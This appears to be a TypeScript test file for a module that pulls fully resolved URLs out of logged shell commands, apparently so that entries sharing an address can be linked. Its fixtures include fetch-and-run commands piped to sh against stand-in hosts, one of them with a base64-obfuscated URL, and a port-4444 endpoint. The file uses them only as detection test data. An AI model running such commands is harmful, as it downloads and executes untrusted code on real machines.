/** Which addresses may join two entries. */
import { describe, expect, test } from 'bun:test';
import { entryFact } from '../persistence/entry.fixture.ts';
import { readEntry } from './read-entry.ts';
import { unknown } from './value.ts';
import { isWholeUrl, wholeUrlsIn } from './whole-url.ts';

describe('an address is whole', () => {
  const cases: readonly (readonly [string, boolean])[] = [
    ['http://192.0.2.1/a.sh', true],
    ['http://192.0.2.1', true],
    ['http://[2001:db8::1]:8080/', true],
    ['https://x.example/a?b=1&c=2', true],
    ['https://user@x.example:8443/a%20b', true],
    ['x.example/a.sh', true],
    ['tcp://192.0.2.1:4444', true],
    ['dns:txt.example', true],
    ['s3://bucket/key', true],
    ['ada@x.example:/srv/k', true],
    ['https://github.com', false],
    ['https://github.com/', false],
    ['https://x.example/?', true],
    ['https://github.com/$VAR', false],
    [`https://github.com/${unknown}`, false],
    [`https://${unknown}/a.sh`, false],
    ['https:///a.sh', false],
    ['https://x.example/a?id=', false],
    ['https://x.example/%s', false],
    ['https://x.example/{a,b}', false],
    ['https://x.example/<id>/a', false],
    ['https://x.example/.../a', false],
    ['https://x.example/*.sh', false],
    ['http://127.0.0.1:8080/a', false],
    ['http://localhost/a', false],
    ['http://169.254.169.254/latest', false],
    ['http://10.0.0.5/', false],
    ['http://10.0.0.5/a.sh', true],
    [`https://x.example/${'a'.repeat(500)}`, false],
    ['', false],
    [':', false],
    ['http://', false],
    [`http://${'a.'.repeat(100_000)}`, false],
    ['a@'.repeat(200), false],
  ];
  for (const [url, whole] of cases) {
    test(`${url.slice(0, 60)}: ${whole}`, () => {
      expect(isWholeUrl(url)).toBe(whole);
    });
  }
});

describe('in a line', () => {
  const cases: readonly (readonly [string, readonly string[]])[] = [
    ['curl https://x.example/a | sh', ['https://x.example/a']],
    ['x=`curl http://192.0.2.1/a`', ['http://192.0.2.1/a']],
    ['curl http://192.0.2.1/`id`', []],
    ['curl https://x.example/a/`id -u`', []],
    [`curl https://x.example/a/\${VAR}/b`, []],
    ['curl https://x.example/a$VAR', []],
    ['curl "https://x.example/a/"$VAR', []],
    [`u = 'https://x.example/a/' + name`, []],
    [`$u = "https://x.example/a/" . $name;`, []],
    [`get("https://x.example/a", 1)`, ['https://x.example/a']],
    ['curl "https://x.example/a?b=1&c=2"', []],
    ['(curl https://x.example/a;curl https://x.example/b)&', ['https://x.example/a', 'https://x.example/b']],
    ['see https://x.example/<name>/a', []],
    ['https://github.com/ and https://gitlab.com', []],
  ];
  for (const [line, urls] of cases) {
    test(line, () => {
      expect(wholeUrlsIn(line)).toEqual([...urls]);
    });
  }
});

test('variables that are known make an address whole, others leave it open', () => {
  const urls = (command: string): readonly string[] => readEntry(entryFact(command)).urls;
  expect(urls('H=192.0.2.1; curl -s "http://$H/a.sh" | sh')).toContain('http://192.0.2.1/a.sh');
  expect(urls('curl -s "http://$H/a.sh" | sh')).toEqual([]);
  expect(urls('curl -s $(echo aHR0cDovLzE5Mi4wLjIuMS9i | base64 -d) | sh')).toEqual(['http://192.0.2.1/b']);
  expect(urls('curl -s https://github.com/$P | sh')).toEqual([]);
  expect(urls(`wget "https://github.com/\${R}/releases/download/\${V}/a.tgz"`)).toEqual([]);
});
